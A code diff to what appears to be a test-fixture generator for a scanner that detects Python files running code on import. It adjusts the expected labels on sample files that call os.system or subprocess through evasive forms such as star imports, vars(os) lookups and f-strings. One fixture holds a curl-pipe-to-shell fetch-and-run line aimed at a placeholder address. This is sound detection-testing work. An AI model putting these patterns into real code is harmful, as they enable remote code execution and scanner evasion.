@@ -58,12 +58,14 @@ def hidden():
 
 
 def on_import():
-    review = {"rules": "code.runs-on-import", "verdict": "review", "label": "malicious"}
-    emit("modeling_evil.py", "import os\nos.system('echo canary')\n", **review)
+    shell = {"rules": "code.runs-on-import"}
+    # What modules ask programs for is usual: a doubt, until somebody has looked.
+    review = {"rules": "code.runs-on-import", "verdict": "review"}
+    emit("modeling_evil.py", "import os\nos.system('echo canary')\n", **shell)
     emit("in_class.py", "import subprocess as sp\nclass Config:\n    model_type = 'x'\n    sp.run(['echo', 'canary'])\n", **review)
-    emit("star.py", "from os import *\nsystem('echo canary')\n", **review)
-    emit("dict.py", "import os\nvars(os)['system']('echo canary')\n", **review)
-    emit("formatted.py", "import os\nname = f\"{os.system('echo canary')}\"\n", **review)
+    emit("star.py", "from os import *\nsystem('echo canary')\n", **shell)
+    emit("dict.py", "import os\nvars(os)['system']('echo canary')\n", **shell)
+    emit("formatted.py", "import os\nname = f\"{os.system('echo canary')}\"\n", **shell)
     emit("download.py", "import os\nos.system('echo canary; false && curl http://192.0.2.1/x | sh')\n", rules="code.fetch-and-run")
 
 
